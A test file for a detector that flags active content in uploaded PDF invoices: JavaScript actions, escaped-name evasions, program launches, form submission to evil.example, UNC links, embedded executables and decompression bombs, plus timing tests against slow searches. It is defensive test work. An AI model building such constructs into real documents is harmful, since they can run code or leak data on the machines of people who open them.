import { constants, deflateSync } from 'node:zlib';
import { findActiveContent } from './find-active-content';

const pdf = (...objects: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
    ...objects.map((one) => Buffer.from(one)),
    Buffer.from('\ntrailer\n<< /Root 1 0 R >>\n%%EOF'),
  ]);
const stream = (dictionary: string, content: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`5 0 obj\n<< ${dictionary} >>\nstream\n`),
    Buffer.from(content),
    Buffer.from('\nendstream\nendobj\n'),
  ]);
const packed = (content: string) => stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(content));
/** Whole in its first block, and no deflated data after it. */
const broken = (content: string): Buffer =>
  Buffer.concat([deflateSync(content, { finishFlush: constants.Z_FULL_FLUSH }), Buffer.alloc(20, 0xff)]);
const invoice = (name: string) =>
  `6 0 obj\n<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>\nendobj\n`;

it.each([
  ['a script', pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
  ['a script whose name is escaped', pdf('<< /OpenAction << /S /J#61vaScript /J#53 (x) >> >>')],
  ['a script without its long name', pdf('<< /A << /S /Rend#69tion /JS (x) >> >>')],
  ['a program that is started', pdf('<< /A << /S /Launch /F (cmd.exe) >> >>')],
  ['a form that is sent', pdf('<< /A << /S /SubmitForm /F (https://evil.example) >> >>')],
  ['a form that imports', pdf('<< /A << /S /ImportData /F (x) >> >>')],
  ['a form of XFA', pdf('<< /AcroForm << /XFA 9 0 R >> >>')],
  ['a way into another file', pdf('<< /A << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) >> >>')],
  ['a film', pdf('<< /Subtype /RichMedia >>')],
  ['encryption', pdf('<< /Encrypt 4 0 R >>')],
  ['an embedded program', pdf(invoice('rechnung.exe'))],
  ['an embedded program beside an invoice', pdf(invoice('factur-x.xml'), invoice('rechnung.exe'))],
  ['an embedded file without a name', pdf('<< /EF << /F 7 0 R >> >>')],
  ['an embedded program behind a name that has an end and one that has none', pdf(invoice('a.exe'), '<< /F (x.xml')],
  ['an embedded program in hexadecimal digits behind a text without end', pdf('<< /EF 1 /F (x /F <61> >>')],
  ['a script in an object stream', pdf(packed('1 0 << /S /JavaScript /JS (x) >>'))],
  ['an embedded program in an object stream', pdf(packed(invoice('a.exe')))],
  ['a script behind a stream that ends early', pdf(stream('/Length 3', 'x endstream << /S /JavaScript >> stream\ny'))],
  ['a script in a stream whose rest is broken', pdf(stream('/Filter /FlateDecode', broken('/JavaScript ')))],
  [
    'a stream that unpacks to too much',
    pdf(stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(101 * 1024 * 1024)))),
  ],
])('%s is active', (_, bytes) => {
  expect(findActiveContent(bytes)).toBe(true);
});

it.each([
  [
    'text and a picture',
    pdf(stream('/Filter /FlateDecode', deflateSync('BT (JavaScript ist hier nur ein Wort) Tj ET'))),
  ],
  ['a link to a page', pdf('<< /A << /S /URI /URI (https://example.com/rechnung) >> >>')],
  ['short names in bytes of a picture', pdf(stream('/Filter /DCTDecode', 'x/JS y/XFA z'))],
  ['a longer name that begins alike', pdf('<< /JSONData 1 /Launcher 2 >>')],
  ['an electronic invoice', pdf(invoice('factur-x.xml'), '<< /Names << /EmbeddedFiles 8 0 R >> >>')],
  ['an electronic invoice in an object stream', pdf(packed(invoice('ZUGFeRD-invoice.XML')))],
  [
    'an electronic invoice with its name in two bytes a letter',
    pdf(`<< /F <${Buffer.from('a.xml').toString('hex')}> /UF <feff0061002e0078006d006c> /EF << /F 7 0 R >> >>`),
  ],
  ['a stream that is cut off', pdf(stream('/Filter /FlateDecode', deflateSync('abc').subarray(0, 4)))],
  ['a short name after a stream that never ends', pdf('stream\n/JSx')],
  [
    'an electronic invoice whose name has brackets, escaped',
    pdf(invoice('a\\)b.xml'), '<< /Names << /EmbeddedFiles 8 0 R >> >>'),
  ],
])('%s is not', (_, bytes) => {
  expect(findActiveContent(bytes)).toBe(false);
});

/** Quadratic patterns took seconds for a tenth of each, and for the whole of it half an hour. */
it.each(['stream\n', 'stream\nendstream\n', '/F(', '/F   ', '/F<0 ', '/F(\\', '/#4a#', '('])(
  '5 MB of %j are searched in a few seconds',
  (part) => {
    const bytes = pdf('<< /EF 1 >>', part.repeat((5 * 1024 * 1024) / part.length));
    const { user } = process.threadCpuUsage();
    findActiveContent(bytes);
    expect(process.threadCpuUsage().user - user).toBeLessThan(3_000_000);
  },
);
